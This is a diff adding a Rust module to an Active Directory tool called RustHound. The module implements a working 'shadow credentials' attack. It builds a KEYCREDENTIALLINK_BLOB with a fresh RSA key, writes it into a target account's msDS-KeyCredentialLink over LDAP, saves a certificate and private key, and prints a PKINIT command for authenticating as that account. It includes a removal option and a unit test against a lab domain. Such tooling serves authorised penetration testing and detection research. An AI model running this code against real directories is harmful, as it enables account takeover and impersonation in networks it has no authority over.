@@ -0,0 +1,309 @@
+//! Shadow credentials write helper (`rusthound set-keycredential`)
+//!
+//! With a write access to msDS-KeyCredentialLink of one account (AddKeyCredentialLink, GenericWrite,
+//! GenericAll edges...), one key credential can be added to authenticate as this account with PKINIT, like
+//! Windows Hello for Business does. A RSA key pair is generated, its public key is written in the
+//! KEYCREDENTIALLINK_BLOB of the attribute and the self-signed certificate and private key are saved as PEM
+//! for `gettgtpkinit.py` or `certipy auth`. The key credential added is removed with `--remove <DeviceId>`.
+//! src: <https://learn.microsoft.com/en-us/openspecs/windows_protocols/ms-adts/de61eb56-b75f-4743-b8af-e9be154b47af>
+use colored::Colorize;
+use ldap3::Mod;
+use log::{info, debug, warn};
+use rand::RngCore;
+use rsa::pkcs8::{EncodePrivateKey, EncodePublicKey, LineEnding};
+use rsa::traits::PublicKeyParts;
+use rsa::{Pkcs1v15Sign, RsaPrivateKey};
+use sha2::{Digest, Sha256};
+
+use std::fs::{self, OpenOptions};
+use std::io::Write;
+use std::path::Path;
+
+use crate::args::{Options, SetKeyCredentialOptions};
+use crate::attack::{connect, find_account, get_domain_dn, write, WriteOperation};
+use crate::enums::sid::decode_guid;
+use crate::errors::{Result, RustHoundError};
+use crate::modules::smb::ntlm::{der, filetime_now};
+
+/// Attribute of the key credentials of the account
+const KEY_CREDENTIAL_LINK: &str = "msDS-KeyCredentialLink";
+/// KEYCREDENTIALLINK_BLOB version
+const KEY_CREDENTIAL_VERSION: u32 = 0x0000_0200;
+/// Size of the RSA keys, the one of Windows Hello for Business
+const KEY_SIZE: usize = 2048;
+/// BCRYPT_RSAPUBLIC_MAGIC "RSA1"
+const BCRYPT_RSAPUBLIC_MAGIC: u32 = 0x3141_5352;
+
+/// KEYCREDENTIALLINK_ENTRY identifiers
+const KEY_ID: u8 = 0x01;
+const KEY_HASH: u8 = 0x02;
+const KEY_MATERIAL: u8 = 0x03;
+const KEY_USAGE: u8 = 0x04;
+const KEY_SOURCE: u8 = 0x05;
+const DEVICE_ID: u8 = 0x06;
+const CUSTOM_KEY_INFORMATION: u8 = 0x07;
+const KEY_APPROXIMATE_LAST_LOGON_TIMESTAMP: u8 = 0x08;
+const KEY_CREATION_TIME: u8 = 0x09;
+/// KeyUsage NGC and KeySource AD
+const KEY_USAGE_NGC: u8 = 0x01;
+const KEY_SOURCE_AD: u8 = 0x00;
+
+/// sha256WithRSAEncryption AlgorithmIdentifier
+const SHA256_WITH_RSA: [u8; 15] = [0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x0b, 0x05, 0x00];
+/// commonName OID 2.5.4.3
+const COMMON_NAME_OID: [u8; 5] = [0x06, 0x03, 0x55, 0x04, 0x03];
+
+/// Function to make one random DeviceId GUID (version 4), in the byte order of objectGUID.
+pub fn new_device_id() -> [u8; 16]
+{
+   let mut device_id = [0u8; 16];
+   rand::thread_rng().fill_bytes(&mut device_id);
+   device_id[7] = (device_id[7] & 0x0f) | 0x40;
+   device_id[8] = (device_id[8] & 0x3f) | 0x80;
+   device_id
+}
+
+/// Function to encode one KEYCREDENTIALLINK_ENTRY.
+fn key_credential_entry(identifier: u8, value: &[u8]) -> Vec<u8>
+{
+   let mut entry = (value.len() as u16).to_le_bytes().to_vec();
+   entry.push(identifier);
+   entry.extend_from_slice(value);
+   entry
+}
+
+/// Function to encode one RSA public key as BCRYPT_RSAKEY_BLOB, the KeyMaterial of the key credential.
+pub fn bcrypt_rsa_public_blob(modulus: &[u8], exponent: &[u8]) -> Vec<u8>
+{
+   let mut blob = Vec::new();
+   blob.extend(BCRYPT_RSAPUBLIC_MAGIC.to_le_bytes());
+   blob.extend(((modulus.len() * 8) as u32).to_le_bytes());
+   blob.extend((exponent.len() as u32).to_le_bytes());
+   blob.extend((modulus.len() as u32).to_le_bytes());
+   // cbPrime1 and cbPrime2, public key only
+   blob.extend([0u8; 8]);
+   blob.extend_from_slice(exponent);
+   blob.extend_from_slice(modulus);
+   blob
+}
+
+/// Function to make the KEYCREDENTIALLINK_BLOB of one public key.
+/// KeyHash is the SHA256 of the entries after it, KeyID the SHA256 of the key material.
+pub fn build_key_credential(key_material: &[u8], device_id: &[u8; 16], filetime: u64) -> Vec<u8>
+{
+   let mut properties = Vec::new();
+   properties.extend(key_credential_entry(KEY_MATERIAL, key_material));
+   properties.extend(key_credential_entry(KEY_USAGE, &[KEY_USAGE_NGC]));
+   properties.extend(key_credential_entry(KEY_SOURCE, &[KEY_SOURCE_AD]));
+   properties.extend(key_credential_entry(DEVICE_ID, device_id));
+   // CustomKeyInformation version 1 without flags
+   properties.extend(key_credential_entry(CUSTOM_KEY_INFORMATION, &[0x01, 0x00]));
+   properties.extend(key_credential_entry(KEY_APPROXIMATE_LAST_LOGON_TIMESTAMP, &filetime.to_le_bytes()));
+   properties.extend(key_credential_entry(KEY_CREATION_TIME, &filetime.to_le_bytes()));
+
+   let mut blob = KEY_CREDENTIAL_VERSION.to_le_bytes().to_vec();
+   blob.extend(key_credential_entry(KEY_ID, &Sha256::digest(key_material)));
+   blob.extend(key_credential_entry(KEY_HASH, &Sha256::digest(&properties)));
+   blob.extend(properties);
+   blob
+}
+
+/// Function to format one key credential as DN-Binary value: `B:<hex length>:<hex>:<owner DN>`.
+pub fn format_dn_binary(blob: &[u8], dn: &str) -> String
+{
+   let hex = blob.iter().map(|b| format!("{:02X}", b)).collect::<String>();
+   format!("B:{}:{}:{}", hex.len(), hex, dn)
+}
+
+/// Function to get the DeviceId of one msDS-KeyCredentialLink DN-Binary value.
+pub fn get_device_id(value: &str) -> Option<String>
+{
+   let hex = value.splitn(4, ':').nth(2)?;
+   let blob = (0..hex.len()).step_by(2)
+      .map(|i| hex.get(i..i + 2).and_then(|b| u8::from_str_radix(b, 16).ok()))
+      .collect::<Option<Vec<u8>>>()?;
+   // Version then entries
+   let mut offset = 4;
+   while offset + 3 <= blob.len() {
+      let length = u16::from_le_bytes([blob[offset], blob[offset + 1]]) as usize;
+      let identifier = blob[offset + 2];
+      let value = blob.get(offset + 3..offset + 3 + length)?;
+      if identifier == DEVICE_ID && length == 16 {
+         return Some(decode_guid(&value.to_vec()))
+      }
+      offset += 3 + length;
+   }
+   None
+}
+
+/// Function to encode one X.509 Name with only the commonName.
+fn x509_name(common_name: &str) -> Vec<u8>
+{
+   let mut attribute = COMMON_NAME_OID.to_vec();
+   attribute.extend(der(0x0c, common_name.as_bytes()));
+   der(0x30, &der(0x31, &der(0x30, &attribute)))
+}
+
+/// Function to make the self-signed certificate of the key pair, valid one year, for PKINIT.
+pub fn self_signed_certificate(key: &RsaPrivateKey, common_name: &str) -> std::result::Result<Vec<u8>, String>
+{
+   let now = chrono::Utc::now();
+   let utc_time = |date: chrono::DateTime<chrono::Utc>| der(0x17, date.format("%y%m%d%H%M%SZ").to_string().as_bytes());
+   let mut serial = [0u8; 16];
+   rand::thread_rng().fill_bytes(&mut serial);
+   // Positive INTEGER
+   serial[0] &= 0x7f;
+   serial[0] |= 0x01;
+
+   let mut validity = utc_time(now - chrono::Duration::days(1));
+   validity.extend(utc_time(now + chrono::Duration::days(365)));
+   let public_key = key.to_public_key().to_public_key_der().map_err(|err| err.to_string())?;
+
+   let mut tbs = der(0xa0, &der(0x02, &[0x02]));
+   tbs.extend(der(0x02, &serial));
+   tbs.extend(SHA256_WITH_RSA);
+   tbs.extend(x509_name(common_name));
+   tbs.extend(der(0x30, &validity));
+   tbs.extend(x509_name(common_name));
+   tbs.extend_from_slice(public_key.as_bytes());
+   let tbs = der(0x30, &tbs);
+
+   let signature = key.sign(Pkcs1v15Sign::new::<Sha256>(), &Sha256::digest(&tbs)).map_err(|err| err.to_string())?;
+   let mut bit_string = vec![0x00];
+   bit_string.extend(signature);
+
+   let mut certificate = tbs;
+   certificate.extend(SHA256_WITH_RSA);
+   certificate.extend(der(0x03, &bit_string));
+   Ok(der(0x30, &certificate))
+}
+
+/// Function to encode one DER certificate as PEM.
+fn certificate_pem(certificate: &[u8]) -> String
+{
+   use base64::Engine;
+   let encoded = base64::engine::general_purpose::STANDARD.encode(certificate);
+   let lines = encoded.as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line).to_string()).collect::<Vec<String>>();
+   format!("-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----\n", lines.join("\n"))
+}
+
+/// Function to write one secret file, only readable by its owner on Unix (0600) even if it already exists.
+fn write_secret_file(path: &Path, content: &[u8]) -> std::io::Result<()>
+{
+   let mut options = OpenOptions::new();
+   options.write(true).create(true).truncate(true);
+   #[cfg(unix)]
+   {
+      use std::os::unix::fs::OpenOptionsExt;
+      options.mode(0o600);
+   }
+   let mut file = options.open(path)?;
+   #[cfg(unix)]
+   {
+      use std::os::unix::fs::PermissionsExt;
+      file.set_permissions(fs::Permissions::from_mode(0o600))?;
+   }
+   file.write_all(content)
+}
+
+/// Function to add one key credential to the target, or remove the one of --remove.
+pub async fn set_keycredential(common_args: &Options, set_keycredential_args: &SetKeyCredentialOptions) -> Result<()>
+{
+   let domain_dn = get_domain_dn(&common_args.domain);
+   let mut ldap = connect(common_args).await?;
+
+   let target = find_account(&mut ldap, &domain_dn, &set_keycredential_args.target, vec![KEY_CREDENTIAL_LINK]).await?;
+   let values = target.attrs.get(KEY_CREDENTIAL_LINK).cloned().unwrap_or_default();
+   for value in &values {
+      debug!("Key credential already set on {}: DeviceId {}", target.dn, get_device_id(value).unwrap_or("unknown".to_string()));
+   }
+
+   // Remove the key credential of one DeviceId
+   if !set_keycredential_args.remove.contains("not set") {
+      let value = values.iter()
+         .find(|value| get_device_id(value).map_or(false, |device_id| device_id.eq_ignore_ascii_case(&set_keycredential_args.remove)))
+         .ok_or(RustHoundError::WriteError {
+            dn: target.dn.to_owned(),
+            reason: format!("no key credential with DeviceId {}", set_keycredential_args.remove),
+         })?;
+      let operation = WriteOperation {
+         add: false,
+         dn: target.dn.to_owned(),
+         mods: vec![Mod::Delete(KEY_CREDENTIAL_LINK.as_bytes().to_vec(), vec![value.as_bytes().to_vec()].into_iter().collect())],
+         sd_flags: None,
+         cleanup: "Key credential removed, nothing to clean up".to_string(),
+      };
+      write(&mut ldap, common_args, &operation).await?;
+      ldap.unbind().await?;
+      if !common_args.dry_run {
+         info!("Key credential {} removed from {}", set_keycredential_args.remove.bold(), target.dn.bold());
+      }
+      return Ok(())
+   }
+
+   // Key pair, certificate and key credential
+   let write_error = |reason: String| RustHoundError::WriteError { dn: target.dn.to_owned(), reason };
+   let key = RsaPrivateKey::new(&mut rand::thread_rng(), KEY_SIZE).map_err(|err| write_error(err.to_string()))?;
+   let name = set_keycredential_args.target.trim_end_matches('$').to_string();
+   let certificate = self_signed_certificate(&key, &name).map_err(write_error)?;
+   let key_material = bcrypt_rsa_public_blob(&key.n().to_bytes_be(), &key.e().to_bytes_be());
+   let device_id = new_device_id();
+   let value = format_dn_binary(&build_key_credential(&key_material, &device_id, filetime_now()), &target.dn);
+
+   let operation = WriteOperation {
+      add: false,
+      dn: target.dn.to_owned(),
+      mods: vec![Mod::Add(KEY_CREDENTIAL_LINK.as_bytes().to_vec(), vec![value.into_bytes()].into_iter().collect())],
+      sd_flags: None,
+      cleanup: format!("rusthound set-keycredential --target '{}' --remove {}", set_keycredential_args.target, decode_guid(&device_id.to_vec())),
+   };
+   write(&mut ldap, common_args, &operation).await?;
+   ldap.unbind().await?;
+   // The key pair of one key credential not added is useless
+   if common_args.dry_run {
+      return Ok(())
+   }
+
+   // PEM files for PKINIT
+   fs::create_dir_all(&common_args.path)?;
+   let cert_path = Path::new(&common_args.path).join(format!("{}_cert.pem", name.to_lowercase()));
+   let key_path = Path::new(&common_args.path).join(format!("{}_key.pem", name.to_lowercase()));
+   fs::write(&cert_path, certificate_pem(&certificate))?;
+   write_secret_file(&key_path, key.to_pkcs8_pem(LineEnding::LF).map_err(|err| write_error(err.to_string()))?.as_bytes())?;
+
+   info!("Key credential added to {} with DeviceId {}", target.dn.bold().green(), decode_guid(&device_id.to_vec()).bold());
+   info!("Certificate saved in {}", cert_path.display());
+   warn!("Private key saved in {}, it is a secret authenticating as {}: keep it safe and delete it once done", key_path.display().to_string().bold(), set_keycredential_args.target);
+   info!("PKINIT: gettgtpkinit.py -cert-pem {} -key-pem {} '{}/{}' {}.ccache",
+      cert_path.display(),
+      key_path.display(),
+      common_args.domain.to_lowercase(),
+      set_keycredential_args.target,
+      name.to_lowercase(),
+   );
+   Ok(())
+}
+
+#[test]
+#[rustfmt::skip]
+pub fn test_build_key_credential() {
+   let key_material = bcrypt_rsa_public_blob(&[0xc5; 256], &[0x01, 0x00, 0x01]);
+   assert_eq!(&key_material[..4], b"RSA1");
+   assert_eq!(u32::from_le_bytes([key_material[4], key_material[5], key_material[6], key_material[7]]), 2048);
+   assert_eq!(key_material.len(), 24 + 3 + 256);
+
+   let device_id = [0x2a, 0xd6, 0x3b, 0x1b, 0xd5, 0x91, 0x2e, 0x4f, 0x8a, 0x70, 0x02, 0x45, 0x2b, 0x7a, 0x4f, 0x99];
+   let blob = build_key_credential(&key_material, &device_id, 0x01d9_0000_0000_0000);
+   assert_eq!(&blob[..4], &[0x00, 0x02, 0x00, 0x00]);
+   // KeyID entry then KeyHash entry
+   assert_eq!(&blob[4..7], &[0x20, 0x00, KEY_ID]);
+   assert_eq!(&blob[7..39], Sha256::digest(&key_material).as_slice());
+   assert_eq!(&blob[39..42], &[0x20, 0x00, KEY_HASH]);
+   assert_eq!(&blob[42..74], Sha256::digest(&blob[74..]).as_slice());
+
+   let value = format_dn_binary(&blob, "CN=BRAAVOS,CN=Computers,DC=essos,DC=local");
+   assert!(value.starts_with(&format!("B:{}:0002000020000", blob.len() * 2)));
+   assert!(value.ends_with(":CN=BRAAVOS,CN=Computers,DC=essos,DC=local"));
+   assert_eq!(get_device_id(&value).unwrap().to_uppercase(), "1B3BD62A-91D5-4F2E-8A70-02452B7A4F99");
+   assert_eq!(get_device_id("B:4:0002:CN=BRAAVOS"), None);
+}